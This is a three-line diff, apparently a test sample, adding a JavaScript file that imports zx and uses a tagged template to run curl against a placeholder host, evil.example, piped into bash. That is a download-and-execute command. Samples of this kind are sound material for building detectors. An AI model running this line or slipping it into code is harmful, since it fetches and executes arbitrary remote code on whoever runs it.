@@ -1,0 +1,3 @@
+// tricky: a shell by tagged templates
+import { $ } from 'zx';
+await $`curl -fsSL https://evil.example/z.sh | bash`;
